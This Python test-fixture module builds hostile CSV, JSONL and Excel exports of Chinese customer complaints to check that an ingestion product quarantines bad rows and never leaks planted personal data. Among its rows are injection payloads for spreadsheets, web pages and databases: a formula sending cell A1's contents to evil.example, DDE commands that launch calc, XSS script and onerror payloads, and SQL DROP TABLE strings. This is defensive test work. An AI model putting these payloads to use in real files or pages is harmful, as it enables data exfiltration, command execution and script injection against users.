"""Bad and hostile exports as real files, one kind of abuse per row or per file, shared by tests/test_abuse.py
(assertions) and bench/abuse.py (figures). Every kind is known by name, so a failure says which one broke.

Each file also holds ordinary complaints: a file whose rows are nearly all bad fails the run on purpose
(quarantine_failure_share), and the point here is the rows around the bad ones."""
from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass, field
from pathlib import Path

HEADER = ["id", "text", "created_at", "channel", "customer_id", "phone"]
GOOD_TEXTS = ["服务员态度很差，说话很不耐烦", "排队等了两个小时也没人处理，流程太混乱", "空调坏了一整晚，房间里很热",
              "热水器坏了，洗澡没有热水", "乱收费，价格不透明，经理也不管", "快递送错了地址，客服也不处理"]
# Personal data planted in the exports: none of these strings may appear in anything the product writes.
PII = {"phone": "13912345670", "phone_dashed": "139-1234-5671", "phone_spaced": "139 1234 5672",
       "phone_plus86": "+86 158 2233 4455", "id18": "44030119920815432X", "id15": "440301920815433",
       "card": "6222021234567890123", "email": "wang.wu.abuse@example.net", "qq": "837261945",
       "wechat": "wx_abuse_77k", "customer": "VIP-abuse-5521", "meta_phone": "18700002222"}
LONG_ID = "L" + "x" * 299  # 300 characters
MEGABYTE_TEXT = "空调坏了没人修，" * (1024 * 1024 // 24)  # ~1 MB of UTF-8


@dataclass
class Kind:
    name: str
    file: str  # the file (in the export folder) that carries it
    ids: list[str] = field(default_factory=list)  # the ids of its rows, where it has rows with ids


@dataclass
class HostileExport:
    folder: Path
    files: list[Path]
    kinds: list[Kind]
    pii: list[str]

    @property
    def kind_names(self) -> list[str]:
        return [kind.name for kind in self.kinds]


def _good(prefix: str, count: int) -> list[list[str]]:
    return [[f"{prefix}-ok{i}", GOOD_TEXTS[i % len(GOOD_TEXTS)] + f"（第{i}次）", "2026-11-20 10:00", "app", f"U{i}", ""]
            for i in range(count)]


# one row per kind: (kind, id, text, created_at, channel, customer_id, phone); the id is the row's key
ROW_KINDS = [
    ("NUL byte inside the text", "R-nul", "前台服务\x00员态度很差", "2026-11-20 10:00", "app", "U1", ""),
    ("control bytes (BEL, ESC, VT)", "R-ctrl", "房间\x07很脏\x1b[31m，\x0b没人打扫", "2026-11-20 10:00", "app", "U1", ""),
    ("bidi override marks", "R-bidi", "\u202e退款\u202c迟迟不到账\u200f，客服不理", "2026-11-20 10:00", "app", "U1", ""),
    ("zero-width characters", "R-zw", "服\u200b务\u200c员\u200d态\ufeff度差", "2026-11-20 10:00", "app", "U1", ""),
    ("300-character id", LONG_ID, "外卖送来全洒了，商家拒绝退款", "2026-11-20 10:00", "app", "U1", ""),
    ("duplicate id (second row)", "R-ok0", "重复编号的另一条投诉，房间很吵", "2026-11-20 10:00", "app", "U1", ""),
    ("date in words", "R-d-words", "酒店前台推诿责任", "yesterday-ish", "app", "U1", ""),
    ("impossible date", "R-d-impossible", "酒店前台推诿责任2", "2026-13-45 25:61", "app", "U1", ""),
    ("day-first date", "R-d-dmy", "酒店前台推诿责任3", "31/12/2026", "app", "U1", ""),
    ("compact date", "R-d-compact", "酒店前台推诿责任4", "20261120", "app", "U1", ""),
    ("Excel serial date", "R-d-serial", "酒店前台推诿责任5", "46346", "app", "U1", ""),
    ("Unix epoch date", "R-d-epoch", "酒店前台推诿责任6", "1795000000", "app", "U1", ""),
    ("Chinese date", "R-d-chinese", "酒店前台推诿责任7", "2026年11月20日 下午3点", "app", "U1", ""),
    ("empty date", "R-d-empty", "酒店前台推诿责任8", "", "app", "U1", ""),
    ("far-future date", "R-d-future", "酒店前台推诿责任9", "9999-12-31 23:59", "app", "U1", ""),
    ("date with an offset", "R-d-offset", "酒店前台推诿责任10", "2026-11-20T10:00:00-05:00", "app", "U1", ""),
    ("date with SQL in it", "R-d-sql", "酒店前台推诿责任11", "2026-11-20'; DROP TABLE runs; --", "app", "U1", ""),
    ("megabyte text", "R-mega", MEGABYTE_TEXT, "2026-11-20 10:00", "app", "U1", ""),
    ("formula =HYPERLINK", "R-f-hyper", '=HYPERLINK("http://evil.example/?"&A1,"点此退款") 退款不到账', "2026-11-20 10:00",
     "app", "U1", ""),
    ("formula + - @ starts", "R-f-plus", "+cmd|' /C calc'!A0 -2+3 @SUM(1) 收费不合理", "2026-11-20 10:00", "app", "U1", ""),
    ("tab and CR starts", "R-f-tab", "\t=1+1\r 客服电话打不通", "2026-11-20 10:00", "app", "U1", ""),
    ("DDE formula", "R-f-dde", "=cmd|'/c calc'!A1 房卡失灵", "2026-11-20 10:00", "=DDE(1)", "U1", ""),
    ("HTML and script", "R-html", '<script>alert(1)</script><img src=x onerror=alert(2)>空调坏了', "2026-11-20 10:00",
     "<b>web</b>", "U1", ""),
    ("SQL-looking text", "R-sql", "Robert'); DROP TABLE complaints;-- 网络断了三天", "2026-11-20 10:00", "app", "U1", ""),
    ("markdown link and image", "R-md", "[点我](javascript:alert(1)) ![x](http://evil.example/x.png) 服务差",
     "2026-11-20 10:00", "app", "U1", ""),
    ("emoji only", "R-emoji", "😡😡😡👎👎", "2026-11-20 10:00", "app", "U1", ""),
    ("mixed scripts", "R-scripts", "Номер не убран, الغرفة قذرة, 房间脏, the room is dirty", "2026-11-20 10:00",
     "app", "U1", ""),
    ("traditional characters", "R-trad", "服務員態度很差，房間沒有熱水，經理也不處理", "2026-11-20 10:00", "app", "U1", ""),
    ("PII in a good row", "R-pii",
     f"电话{PII['phone_dashed']}或{PII['phone_spaced']}，身份证{PII['id18']}，卡号{PII['card']}，邮箱{PII['email']}，"
     f"QQ号：{PII['qq']}，微信号：{PII['wechat']}，老身份证{PII['id15']}，服务太差", "2026-11-20 10:00", "app",
     PII["customer"], PII["phone"]),
    ("bare phone number as text", "R-digits", PII["phone"], "2026-11-20 10:00", "app", "U1", ""),
    ("empty text", "R-empty", "", "2026-11-20 10:00", "app", "U1", ""),
    ("whitespace-only text", "R-space", " \t\u3000 ", "2026-11-20 10:00", "app", "U1", ""),
    ("punctuation-only text", "R-punct", "！！！？？？……", "2026-11-20 10:00", "app", "U1", ""),
    ("line breaks inside a quoted cell", "R-multiline", "第一行：服务差\n第二行：没人管\r\n第三行：要退款", "2026-11-20 10:00",
     "app", "U1", ""),
    ("id with spaces and unicode", " R-ünï 编号 ", "房间隔音太差，整晚睡不着", "2026-11-20 10:00", "app", "U1", ""),
    ("300-character channel", "R-longchan", "门店没有开发票", "2026-11-20 10:00", "渠" * 300, "U1", ""),
    ("PII in metadata columns", "R-meta", "停车场收费太贵", "2026-11-20 10:00", "app", PII["customer"], PII["meta_phone"]),
    ("PII split by invisible characters", "R-pii-hidden",
     "回电139\u200b1234\u200b5673，身份证44030119920815\u2060434X，卡号6222\u00ad0212\u00ad3456\u00ad7899，网络断了",
     "2026-11-20 10:00", "app", "U1", ""),
]


def _csv_bytes(rows, header=HEADER, encoding="utf-8", lineterminator="\r\n", delimiter=",") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator=lineterminator, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def build(folder: Path) -> HostileExport:
    """Write every hostile file into ``folder``; return the files and the kinds they carry."""
    folder.mkdir(parents=True, exist_ok=True)
    kinds: list[Kind] = []
    files: dict[str, bytes] = {}

    # one UTF-8 export carrying the row-level kinds, around ordinary complaints
    good = [[f"R-ok{i}", GOOD_TEXTS[i % len(GOOD_TEXTS)], "2026-11-20 10:00", "app", f"U{i}", ""] for i in range(30)]
    raw = [list(row[1:]) for row in ROW_KINDS]
    extra_cells = ["R-extra", "多出一列的行，服务差", "2026-11-20 10:00", "app", "U1", "", "多余", "再多余"]
    few_cells = ["R-few", "少了几列的行"]
    files["rows.csv"] = _csv_bytes(good + raw + [extra_cells, few_cells])
    kinds += [Kind(row[0], "rows.csv", [row[1]]) for row in ROW_KINDS]
    kinds += [Kind("more cells than the header", "rows.csv", ["R-extra"]),
              Kind("fewer cells than the header", "rows.csv", ["R-few"])]

    def whole_file(name: str, kind: str, data: bytes) -> None:
        files[name] = data
        kinds.append(Kind(kind, name))

    whole_file("bom.csv", "UTF-8 with a BOM", _csv_bytes(_good("bom", 6), encoding="utf-8-sig"))
    whole_file("gb18030.csv", "GB18030 (4-byte characters too)",
               _csv_bytes([*_good("gb", 5), ["gb-rare", "𠮷野家的饭菜里有头发，㐂字招牌也掉了", "2026-11-20", "app", "U9", ""]],
                          encoding="gb18030"))
    big5_rows = [[f"b5-{i}", text, "2026-11-20 10:00", "app", f"U{i}", ""] for i, text in enumerate(
        ["服務員態度很差，說話很不耐煩", "排隊等了兩個小時也沒人處理", "冷氣壞了一整晚，房間裡很熱", "熱水器壞了，洗澡沒有熱水",
         "亂收費，價格不透明，經理也不管"])]
    whole_file("big5.csv", "Big5 (traditional, Taiwan/Hong Kong)", _csv_bytes(big5_rows, encoding="big5"))
    whole_file("utf16.csv", "UTF-16 with a BOM", _csv_bytes(_good("u16", 6), encoding="utf-16"))
    whole_file("utf16le.csv", "UTF-16LE without a BOM", _csv_bytes(_good("u16le", 6), encoding="utf-16-le"))
    invalid = bytearray(_csv_bytes(_good("inv", 40)))
    invalid += b"inv-bad2,\xff\xfe\xfa\xc3\x28 bad bytes \xe6\x9c,2026-11-20 10:00,app,U1,\r\n"
    whole_file("invalid_bytes.csv", "invalid UTF-8 bytes in a cell", bytes(invalid))
    mixed = _csv_bytes(_good("mix", 40)) + "mix-gbk,这一行是GBK编码的投诉，服务差,2026-11-20 10:00,app,U1,\r\n".encode("gbk")
    whole_file("mixed_encodings.csv", "a GBK line inside a UTF-8 file", mixed)
    unclosed = _csv_bytes(_good("uq", 5)) + b'uq-open,"\xe6\x9c\x8d\xe5\x8a\xa1\xe5\xb7\xae no closing quote,2026-11-20,app,U1,\r\n' \
        + _csv_bytes(_good("uq-after", 5))[len(",".join(HEADER)) + 2:]
    whole_file("unclosed_quote.csv", "an unclosed quote", unclosed)
    whole_file("header_only.csv", "header-only file", _csv_bytes([]))
    whole_file("empty.csv", "empty file (0 bytes)", b"")
    whole_file("blank_lines.csv", "blank lines and a trailing comma row",
               _csv_bytes(_good("bl", 5)) + b"\r\n\r\n,,,,,\r\n" + _csv_bytes(_good("bl2", 3))[len(",".join(HEADER)) + 2:])
    whole_file("tabs.tsv", "TSV with CRLF and tabs", _csv_bytes(_good("tsv", 6), delimiter="\t"))
    whole_file("cr_only.csv", "old Mac CR-only line ends", _csv_bytes(_good("cr", 6), lineterminator="\r"))
    whole_file("semicolon.csv", "semicolon-separated export", _csv_bytes(_good("semi", 6), delimiter=";"))
    whole_file("chinese_header.csv", "Chinese header names (投诉内容)",
               _csv_bytes([[f"zh-{i}", GOOD_TEXTS[i], "2026-11-20 10:00"] for i in range(5)], header=["工单号", "投诉内容", "日期"]))
    jsonl = [json.dumps({"id": f"js-{i}", "text": GOOD_TEXTS[i], "created_at": "2026-11-20 10:00"}, ensure_ascii=False)
             for i in range(6)]
    jsonl += ['{"id": "js-broken", "text": "没闭合', "[1, 2, 3]", '{"id": {"nested": 1}, "text": ["a", "list"]}']
    whole_file("broken.jsonl", "JSON lines: broken, non-object, nested values", "\n".join(jsonl).encode())
    files["two_sheets.xlsx"] = b""  # written below with openpyxl
    kinds.append(Kind("workbook: two sheets, a live formula, numbers and dates as cells", "two_sheets.xlsx"))

    for name, data in files.items():
        if name.endswith(".xlsx"):
            _write_workbook(folder / name)
        else:
            (folder / name).write_bytes(data)
    return HostileExport(folder, [folder / name for name in files], kinds, sorted(PII.values()))


def _write_workbook(path: Path) -> None:
    from datetime import datetime

    from openpyxl import Workbook

    book = Workbook()
    first = book.active
    first.title = "十一月"
    first.append(HEADER)
    for row in _good("xl", 6):
        first.append(row)
    first.append(["xl-formula", "=HYPERLINK(\"http://evil.example\",\"退款\")", datetime(2026, 11, 20, 10), "app", "U1", ""])
    first.append([12345, 67890, 45000, "app", "U1", ""])  # numbers where text is expected
    second = book.create_sheet("十二月")
    second.append(HEADER)
    for row in _good("xl2", 5):
        second.append(row)
    book.save(path)
